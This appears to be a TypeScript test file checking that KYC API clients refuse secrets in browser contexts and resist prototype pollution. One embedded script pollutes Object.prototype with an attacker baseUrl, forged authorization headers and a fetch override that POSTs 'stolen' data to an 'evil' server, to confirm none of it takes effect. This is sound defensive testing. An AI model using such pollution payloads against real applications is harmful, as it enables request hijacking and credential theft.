import type { AuthStrategy } from "@kyc-clients/auth";
import { type FaultServer, startFaultServer } from "@kyc-clients/testing";
import { expect } from "vitest";
import {
  anything,
  argumentsFor,
  basePath,
  caught,
  inChild,
  type Operation,
  once,
  operationsOf,
  refusedOption,
  row,
  sampleSuccess,
  success,
  type Vendor,
  vendors,
} from "../src/index.ts";

/** Makes a client by each way to sign in, where globals look like a page, a page's worker, or a server that has some of them. */
const inBrowsers = `
  const { vendors } = await import("./src/vendors.ts");
  const scopes = {
    page: { window: globalThis, document: {} },
    worker: { importScripts: () => {}, WorkerNavigator: class {} },
    server: { window: globalThis, WorkerNavigator: class {} },
  };
  const outcome = (vendor, auth, allowBrowser) => {
    try {
      vendor.connect({ server: "sandbox" in vendor.api.servers ? "sandbox" : "production", auth, allowBrowser }).close();
      return "made";
    } catch ({ code, option, message }) {
      return [code, option, message.includes("made-up")].join(" ");
    }
  };
  const ways = vendors.map((vendor) => [vendor, vendor.ways.map(({ make, good }) => make(good))]);
  const all = Object.entries(scopes).map(([name, scope]) => {
    Object.assign(globalThis, scope);
    const made = ways.map(([vendor, auths]) => [
      vendor.name,
      [undefined, true, "yes"].map((allowed) => auths.map((auth) => outcome(vendor, auth, allowed))),
    ]);
    for (const key of Object.keys(scope)) delete globalThis[key];
    return [name, Object.fromEntries(made)];
  });
  console.log(JSON.stringify(Object.fromEntries(all)));
`;
const browsers = once(() => inChild<Readonly<Record<string, Readonly<Record<string, string[][]>>>>>(inBrowsers));

row("F08", "a long-lived secret is refused in a browser unless allowBrowser is true", anything, async (vendor) => {
  const made = vendor.ways.map(() => "made");
  const refused = made.map(() => "invalid_option auth false");
  expect(made.length).toBeGreaterThan(0);
  const { page, worker, server } = await browsers();
  for (const scope of [page, worker]) expect(scope?.[vendor.name]).toEqual([refused, made, refused]);
  expect(server?.[vendor.name]).toEqual([made, made, made]);
});

/** Makes and calls every vendor's client while `Object.prototype` holds options, for the whole life of a program. */
const polluted = `
  const [given, evil] = process.argv.slice(-2);
  const { vendors } = await import("./src/vendors.ts");
  const calls = JSON.parse(given);
  let used = 0;
  const use = (answer) => (used++, answer);
  Object.assign(Object.prototype, {
    baseUrl: evil, server: "production", allowHttp: true, allowHeaderOverride: true, headers: { "x-evil": "1", authorization: "evil" },
    observe: () => use(),
    fetch: () => use(fetch(evil, { method: "POST", body: "stolen" })), middleware: [{ onRequest: () => use(new Response("evil")) }],
    bodySerializer: () => use("evil"), pathSerializer: () => use(evil), querySerializer: () => use("evil=1"),
  });
  const refusal = (error) => [error.code, error.option ?? error.argument];
  const outcomes = {};
  for (const { name, connect, create } of vendors) {
    const { baseUrl, operationId, args } = calls[name];
    const client = connect({ baseUrl });
    outcomes[name] = [
      (await client.call(operationId, args)).status,
      (await client.raw(operationId, args)).response.status,
      await client.call(operationId, { ...args, header: { ...args.header, authorization: "x" } }).catch(refusal),
      await Promise.resolve().then(() => create({ auth: undefined })).catch(refusal),
      used,
    ];
  }
  console.log(JSON.stringify(outcomes));
`;

/** Runs it once for all vendors, each with a server of its own. */
const pollution = once(async () => {
  const servers = await Promise.all(vendors.map(() => startFaultServer()));
  const evil = await startFaultServer();
  const calls = vendors.map((vendor, index) => {
    const one = anything.of(vendor) as Operation;
    const server = servers[index] as FaultServer;
    server.script(success(one), success(one));
    const baseUrl = server.url + basePath(vendor);
    return [vendor.name, { baseUrl, operationId: one.operationId, args: argumentsFor(vendor, one) }];
  });
  const outcomes = await inChild<Readonly<Record<string, unknown>>>(polluted, JSON.stringify(Object.fromEntries(calls)), evil.url);
  await Promise.all([...servers, evil].map((server) => server.close()));
  const requests = Object.fromEntries(vendors.map(({ name }, index) => [name, servers[index]?.requests ?? []]));
  return { outcomes, requests, stolen: evil.connections };
});

/** An operation that a client without a user's token has, and that is never called without a credential. */
function signedIn(vendor: Vendor): Operation {
  const client = vendor.create({ baseUrl: "https://api.example.org" }) ?? {};
  const isSigned = ({ definition: { security } }: Operation): boolean => security.length > 0 && security.every((one) => one.length > 0);
  return operationsOf(vendor).find((one) => one.operationId in client && isSigned(one)) as Operation;
}

row("F10", "options are own members only, whatever stands on a prototype", anything, async (vendor, one) => {
  const create = vendor.create as (options: object) => Record<string, (args: object) => Promise<unknown>>;
  const asked = (): Promise<never> => Promise.reject(new Error("it was asked"));
  const layers = Object.values(vendor.api.securitySchemes).map((scheme) => ({ scheme: scheme as "bearer", authorize: asked }));
  const evil: AuthStrategy = { scheme: "bearer", layers, authorize: asked };
  const inherited = { baseUrl: "https://evil.example", server: "production", allowHttp: true, auth: evil, fetch: asked };
  const inheriting = (own: object): object => Object.assign(Object.create(inherited), own);
  expect(refusedOption(() => create(inheriting({})))).toBe("server");
  expect(refusedOption(() => create(inheriting({ baseUrl: "http://api.example.org" })))).toBe("baseUrl");
  // `auth` is not among what the program below pollutes with: Node's own URLs cannot be told apart then, and nothing loads.
  const unsigned = signedIn(vendor);
  const call = create(inheriting({ baseUrl: "https://api.example.org" }))[unsigned.operationId] as (args: object) => Promise<unknown>;
  expect(await caught(call(argumentsFor(vendor, unsigned)))).toMatchObject({ code: "invalid_option", option: "auth", attempts: 0 });
  const { outcomes, requests, stolen } = await pollution();
  const { status } = sampleSuccess(one.inSpec);
  const refusals = [
    ["invalid_argument", "header.authorization"],
    ["invalid_option", "server"],
  ];
  expect(outcomes[vendor.name]).toEqual([status, status, ...refusals, 0]);
  expect([requests[vendor.name]?.length, stolen]).toEqual([2, 0]);
  for (const { headers, target, text } of requests[vendor.name] ?? []) {
    expect(headers["authorization"]).toBe("Bearer made-up-token");
    expect([headers["x-evil"], target.includes("evil"), text.includes("evil")]).toEqual([undefined, false, false]);
  }
});
